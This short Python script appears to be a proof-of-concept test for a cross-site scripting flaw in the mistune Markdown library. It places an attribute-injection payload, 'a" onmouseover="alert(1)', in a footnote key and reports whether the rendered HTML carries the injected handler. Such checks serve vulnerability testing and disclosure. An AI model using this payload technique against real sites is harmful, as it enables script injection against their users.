import mistune

key = 'a" onmouseover="alert(1)'
document = f"See the note[^{key}].\n\n[^{key}]: a footnote\n"
html = mistune.markdown(document, escape=True)
print(html)
if 'id="fn-a" onmouseover="alert(1)"' in html:
    print("VULNERABLE: a footnote key injected an onmouseover attribute")
